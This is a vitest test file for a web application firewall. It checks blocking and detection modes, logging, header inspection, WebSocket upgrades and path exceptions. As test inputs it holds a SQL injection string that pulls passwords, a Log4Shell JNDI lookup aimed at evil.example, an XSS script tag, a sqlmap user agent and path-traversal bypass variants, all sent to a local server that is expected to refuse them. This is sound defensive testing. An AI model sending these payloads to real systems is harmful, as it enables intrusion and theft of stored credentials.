import { request } from "node:http";
import type { FirewallMode } from "@aerostack/contracts";
import { createManualClock } from "@aerostack/kernel";
import { Hono } from "hono";
import { afterEach, describe, expect, it } from "vitest";
import { createJudge } from "../front-door/firewall/judge.ts";
import { type FrontDoorSettings, NO_SETTINGS } from "../front-door/settings/front-door-settings.ts";
import { createEngine } from "../front-door/waf/engine.ts";
import { createLogger } from "../kernel/log.ts";
import { createMetrics } from "../kernel/metrics.ts";
import type { AppEnv } from "./app-env.ts";
import { createFirewallGuard } from "./firewall-guard.ts";
import { guardListener } from "./guarded-listener.ts";
import { type HttpServer, listen } from "./http-server.ts";

const servers: HttpServer[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close(0);
});

const settingsOf = (firewall: Partial<FrontDoorSettings["firewall"]>): FrontDoorSettings => ({
  ...NO_SETTINGS,
  firewall: { ...NO_SETTINGS.firewall, ...firewall },
});

/** A server whose only project is `shop`. */
async function serve(management: FirewallMode, projects: FirewallMode, ofShop: FrontDoorSettings = NO_SETTINGS) {
  const metrics = createMetrics();
  const lines: string[] = [];
  const log = createLogger({ level: "info", destination: { write: (line) => void lines.push(line) } });
  const clock = createManualClock(1_800_000_000_000);
  const guard = createFirewallGuard({
    engine: createEngine({ paranoia: 1 }),
    judge: createJudge({ settings: { of: () => ofShop }, hits: { add: () => undefined }, metrics, log, clock }),
    management,
    projects,
    someProjectInspects: () => ofShop !== NO_SETTINGS,
    areaOf: async ({ url = "/" }) => ({
      projectId: url.startsWith("/f/shop/") ? "prj_shop" : null,
      isApi: url.startsWith("/api/"),
      isFunction: false,
    }),
    callerOf: () => ({ ip: "192.0.2.1", region: "IE" }),
  });
  await metrics.activate();
  const app = new Hono<AppEnv>();
  app.all("*", (c) => c.text("reached"));
  const upgraded: string[] = [];
  const server = await listen({
    app,
    host: "127.0.0.1",
    port: 0,
    ...guardListener(
      {
        blocks: () => null,
        letIn: () => undefined,
        gate: () => null,
        cors: () => null,
        firewall: guard,
      },
      {
        onRequest: () => false,
        onUpgrade(req, socket) {
          upgraded.push(req.url ?? "");
          socket.end("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
          return true;
        },
      },
    ),
  });
  servers.push(server);
  return { origin: `http://127.0.0.1:${server.port}`, port: server.port, metrics, lines, clock, upgraded };
}

/** The status of a request to switch protocols, and what came with it. */
async function upgrade(port: number, path: string): Promise<{ status: number; body: string; requestId: unknown }> {
  return await new Promise((resolve, reject) => {
    const headers = { connection: "Upgrade", upgrade: "websocket" };
    const sent = request({ port, host: "127.0.0.1", path, headers, agent: false });
    sent.once("upgrade", (answer, socket) => {
      socket.destroy();
      resolve({ status: answer.statusCode ?? 0, body: "", requestId: null });
    });
    sent.once("response", (answer) => {
      let body = "";
      answer.on("data", (chunk) => {
        body += chunk;
      });
      answer.on("end", () =>
        resolve({ status: answer.statusCode ?? 0, body, requestId: answer.headers["x-request-id"] }),
      );
    });
    sent.once("error", reject);
    sent.end();
  });
}

const ATTACK = "?q=1'%20UNION%20SELECT%20password%20FROM%20users--";

describe("P32 the firewall in front of every address", () => {
  it("refuses where it blocks, with a request id that the log has too, and says nothing of the rule", async () => {
    const { origin, lines, metrics } = await serve("block", "block");
    for (const path of ["/api/v1/projects", "/f/shop/hello", "/v1/cache/get", "/setup"]) {
      const answer = await fetch(`${origin}${path}${ATTACK}`);
      const text = await answer.text();
      expect([path, answer.status]).toEqual([path, 403]);
      expect(text).toContain("WAF_BLOCKED");
      expect(text).not.toMatch(/sql|union|6001|rule/i);
      expect(lines.at(-1)).toContain(answer.headers.get("x-request-id"));
      expect(lines.at(-1)).toMatch(/"id":6001/);
      expect(await (await fetch(`${origin}${path}?q=O'Brien`)).text()).toBe("reached");
    }
    expect((await metrics.render()).text).toContain('aerostack_firewall_hits_total{category="sql",action="blocked"} 4');
  });

  it("only notes where it detects, and looks at nothing where it is off", async () => {
    const { origin, lines, metrics } = await serve("off", "detect");
    expect(await (await fetch(`${origin}/f/shop/hello${ATTACK}`)).text()).toBe("reached");
    expect(lines).toHaveLength(1);
    expect(await (await fetch(`${origin}/api/v1/projects${ATTACK}`)).text()).toBe("reached");
    expect(lines).toHaveLength(1);
    expect((await metrics.render()).text).toContain('category="sql",action="detected"} 1');
  });

  it("tells a hundred attacks a minute, and how many more there were", async () => {
    const { origin, lines, metrics, clock } = await serve("block", "block");
    for (let n = 0; n < 103; n++) await fetch(`${origin}/api/x${ATTACK}`);
    expect(lines).toHaveLength(100);
    clock.advance(60_000);
    await fetch(`${origin}/api/x${ATTACK}`);
    expect(lines).toHaveLength(102);
    expect(lines[100]).toContain('"leftOut":3');
    expect((await metrics.render()).text).toContain('category="sql",action="blocked"} 104');
  });

  it("looks at headers too: a lookup in any of them, and the user agent of a scanner", async () => {
    const { origin } = await serve("block", "block");
    const statusOf = async (headers: Record<string, string>) => (await fetch(`${origin}/api/x`, { headers })).status;
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
    expect(await statusOf({ "x-anything": "${jndi:ldap://evil.example/a}" })).toBe(403);
    expect(await statusOf({ "user-agent": "sqlmap/1.7" })).toBe(403);
    expect(await statusOf({ referer: "https://example.com/?q=<script>alert(1)</script>" })).toBe(403);
    expect(await statusOf({ cookie: "session=abc; theme=dark", accept: "*/*" })).toBe(200);
  });

  it("looks at requests to switch protocols as at any other", async () => {
    const { port, lines, upgraded } = await serve("block", "block");
    const refused = await upgrade(port, `/f/shop/chat${ATTACK}`);
    expect(refused).toMatchObject({ status: 403, body: expect.stringContaining("WAF_BLOCKED") });
    expect(lines.at(-1)).toContain(String(refused.requestId));
    expect(upgraded).toEqual([]);
    expect((await upgrade(port, "/f/shop/chat?room=lobby")).status).toBe(101);
    const detecting = await serve("block", "detect");
    expect((await upgrade(detecting.port, `/f/shop/chat${ATTACK}`)).status).toBe(101);
    expect(detecting.lines).toHaveLength(1);
    expect((await upgrade(detecting.port, `/api/realtime${ATTACK}`)).status).toBe(403);
  });

  it("does what the project chose, whatever the installation does, and only to its requests", async () => {
    const blocking = await serve("block", "off", settingsOf({ mode: "block" }));
    expect((await fetch(`${blocking.origin}/f/shop/hello${ATTACK}`)).status).toBe(403);
    expect(await (await fetch(`${blocking.origin}/f/other/hello${ATTACK}`)).text()).toBe("reached");
    const open = await serve("block", "block", settingsOf({ mode: "off" }));
    expect(await (await fetch(`${open.origin}/f/shop/hello${ATTACK}`)).text()).toBe("reached");
    expect((await fetch(`${open.origin}/f/other/hello${ATTACK}`)).status).toBe(403);
    expect((await fetch(`${open.origin}/api/v1/projects${ATTACK}`)).status).toBe(403);
  });

  it("leaves out what an exception names, and nothing that dots carry past it", async () => {
    const exception = { id: "fwx_1", rule: null, pathPrefix: "/f/shop/cms", parameter: null, createdAt: "" };
    const { origin, port } = await serve("block", "block", settingsOf({ exceptions: [exception] }));
    const statusOf = async (path: string) => (await fetch(`${origin}${path}${ATTACK}`)).status;
    expect(await statusOf("/f/shop/cms")).toBe(200);
    expect(await statusOf("/f/shop/cms/pages/1")).toBe(200);
    expect(await statusOf("/f/shop/cmsx")).toBe(403);
    expect(await statusOf("/f/shop/other")).toBe(403);
    for (const path of ["/f/shop/cms/../other", "/f/shop/other/../cms", "/f/shop/cms/%2e%2e/other"]) {
      expect((await upgrade(port, `${path}${ATTACK}`)).status, path).toBe(403);
    }
    const ofRule = { id: "fwx_2", rule: 6001, pathPrefix: null, parameter: "q", createdAt: "" };
    const finer = await serve("block", "block", settingsOf({ exceptions: [ofRule] }));
    const ask = async (query: string) => (await fetch(`${finer.origin}/f/shop/hello?${query}`)).status;
    expect(await ask("q=1%20UNION%20SELECT%20password")).toBe(200);
    expect(await ask("other=1%20UNION%20SELECT%20password")).toBe(403);
    expect(await ask("q=<script>alert(1)</script>")).toBe(403);
  });
});
